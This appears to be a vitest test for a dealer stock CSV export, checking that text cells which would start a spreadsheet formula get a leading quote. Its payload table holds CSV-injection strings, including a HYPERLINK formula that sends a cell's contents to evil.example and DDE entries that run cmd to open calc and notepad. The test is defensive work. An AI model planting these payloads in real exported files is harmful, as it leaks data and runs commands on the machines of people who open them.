import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { StockImportResult } from '../../contract/entities/stock.js';
import { routes } from '../../contract/routes.js';
import { actors, call, DEALER, query, type Actors } from './quotations-fixtures.js';
import { csvFile, importStockFile, ITALIAN_HEADER } from './stock-support.js';

/*
 * Formula injection (OWASP "CSV Injection"): whatever a dealer's people or a stock file put in a text field, the stock
 * export never hands a spreadsheet a cell that starts a formula; prices stay numbers.
 */

let a: Actors;
beforeAll(async () => {
  a = await actors();
});
afterAll(async () => a?.t.close());

const PAYLOADS: [code: string, description: string, cell: string][] = [
  [
    'INJ-1',
    '=HYPERLINK("http://evil.example/?x="&A1,"Clicca")',
    `"'=HYPERLINK(""http://evil.example/?x=""&A1,""Clicca"")"`,
  ],
  ['INJ-2', "@SUM(1+9)*cmd|' /C calc'!A0", `'@SUM(1+9)*cmd|' /C calc'!A0`],
  ['INJ-3', "+cmd|' /C notepad'!'A1'", `'+cmd|' /C notepad'!'A1'`],
  ['INJ-4', '-2+3+cmd|x', `'-2+3+cmd|x`],
  ['INJ-5', '\t=1+1', `"'\t=1+1"`],
  ['INJ-6', '\r=1+1', `"'\r=1+1"`],
];

describe('the stock CSV export', () => {
  it('writes every text cell that would start a formula with a leading quote, and prices as numbers', async () => {
    const file = csvFile([
      ITALIAN_HEADER,
      ...PAYLOADS.map(([code]) => `${code};;Bosch;Segnaposto;Filtri;nuovo;12,50;;;22;1`),
    ]);
    expect(StockImportResult.parse((await importStockFile(a, file)).json()).total).toBe(PAYLOADS.length);
    // Behind the import's own checks: what any text field may hold once stored (an edit, a machine import).
    for (const [code, description] of PAYLOADS) {
      const quoted = description.replace(/'/g, "''");
      await query(
        a.t,
        `update stock_items set description = '${quoted}', category = '@categoria', item_code = '=1+1'
         where dealer_id = ${DEALER} and part_code = '${code}'`,
      );
    }
    const text = (await call(a.t, a.dealer, routes.stockExport, { dealerId: DEALER })).rawPayload.toString('utf8');
    for (const [code, , cell] of PAYLOADS)
      expect(text, code).toContain(`${code};'=1+1;Bosch;${cell};'@categoria;nuovo;12,50;;;22;1\r\n`);
  });
});
